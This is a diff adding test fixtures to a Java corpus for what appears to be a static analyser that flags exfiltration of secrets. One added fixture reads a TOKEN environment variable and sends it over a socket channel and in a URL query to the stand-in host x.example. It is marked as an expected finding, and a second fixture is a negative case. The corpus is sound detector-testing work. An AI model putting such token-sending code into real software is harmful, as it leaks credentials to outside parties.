@@ -520,6 +520,20 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        inline("a channel's write sends its argument, a URL's connection its receiver", "sink payload: arguments, receiver where declared", """
+                package PKG;
+                import java.net.URL;
+                import java.nio.ByteBuffer;
+                import java.nio.channels.SocketChannel;
+                class A {
+                    void f(SocketChannel ch) throws Exception {
+                        String token = System.getenv("TOKEN");
+                        ch.write(ByteBuffer.wrap(token.getBytes())); // expect: EXFIL, from=7
+                        URL url = new URL("https://x.example/?t=" + token);
+                        url.openConnection(); // expect: EXFIL, from=7, via=9
+                    }
+                }
+                """);
         inline("HttpClient request body", "library builders", """
                 package PKG;
                 import java.net.URI;
@@ -641,6 +655,20 @@ final class FlowCorpus {
                         fmt.apply(System.getenv("TOKEN"));
                         String host = fmt.apply("public.example");
                         java.net.InetAddress.getByName(host);
+                    }
+                }
+                """);
+        add("a channel picked by a secret key is not what a write sends", "negative: sink payload (receiver not sent)", """
+                package PKG;
+                import java.nio.ByteBuffer;
+                import java.nio.channels.SocketChannel;
+                import java.util.Map;
+                class A {
+                    void f(Map<String, SocketChannel> channels) throws Exception {
+                        String token = System.getenv("TOKEN");
+                        SocketChannel ch = channels.get(token);
+                        ch.write(ByteBuffer.wrap("hello".getBytes()));
+                        ch.write(ByteBuffer.wrap("\\n".getBytes()));
                     }
                 }
                 """);
